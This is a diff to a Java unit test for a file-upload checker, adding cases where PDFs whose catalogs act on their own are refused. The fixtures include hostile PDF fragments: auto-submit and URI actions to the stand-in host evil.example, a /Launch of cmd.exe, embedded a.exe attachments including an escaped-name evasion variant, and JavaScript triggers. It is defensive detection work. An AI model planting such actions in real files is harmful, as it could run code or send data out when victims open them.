@@ -182,11 +182,46 @@ class FileExaminationTest {
                 "/AA << /O << /S /Launch /F (cmd.exe) >> >>",
                 "/Names << /EmbeddedFiles 9 0 R >>",
                 "/AcroForm << /XFA 9 0 R >>",
-                "/OpenAction << /S /SubmitForm /F (http://evil.example) >>"
+                "/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
+                "/OpenAction << /S /Rendition /OP 0 >>",
+                "/OpenAction << /S /GoToR /F (other.pdf) >>",
+                "/Names << /JS (app.alert(1)) >>",
+                "/Annots [ << /3DD << /OnInstantiate 9 0 R >> >> ]",
+                "/Annots [ << /Subtype /3D /Rect [0 0 9 9] >> ]",
+                "/AF [ << /F (a.exe) /EF << /F 9 0 R >> >> ]",
+                "/AF [ << /F (a.exe) /E#46 << /F 9 0 R >> >> ]"
             })
     void aDocumentThatActsByItselfIsRefused(String catalog) {
         refuse("document-acts", "方案.pdf", SentFiles.pdf(catalog));
         refuse("document-acts", "方案.pdf", SentFiles.pdfPacking(ascii("1 0 << " + catalog + " >>")));
+    }
+
+    /** What leads out of the document where nobody presses anything, or to where no address is. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/OpenAction << /S /URI /URI (http://evil.example) >>",
+                "/AA << /O << /S /URI /URI (http://evil.example) >> >>",
+                "/Outlines << /A << /S /URI /URI (file:///c:/a.exe) >> >>",
+                "/Outlines << /A << /S /URI /URI (JavaScript:alert) >> >>",
+                "/Outlines << /A << /S /Thread /F (other.pdf) >> >>",
+                "/Annots [ << /Subtype /Movie /Rect [0 0 9 9] >> ]"
+            })
+    void aDocumentThatLeadsAwayIsRefused(String catalog) {
+        refuse("document-acts", "方案.pdf", SentFiles.pdf(catalog));
+    }
+
+    /** A link that waits to be pressed, threads of a magazine, a heading that is called so. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/Outlines << /A << /S /URI /URI (https://shop.example/paint) >> >>",
+                "/Outlines << /A << /S /URI /URI (page2.html) >> >>",
+                "/Threads [ << /Type /Thread >> ]",
+                "/StructTreeRoot << /K << /S /Sound >> >>"
+            })
+    void aDocumentThatIsOnlyReadMayBeSent(String catalog) {
+        assertThat(examine("方案.pdf", SentFiles.pdf(catalog)).mediaType()).isEqualTo("application/pdf");
     }
 
     /** As readers would find it: the catalog itself in an object stream that says so in its own way, with a table of what is where. */
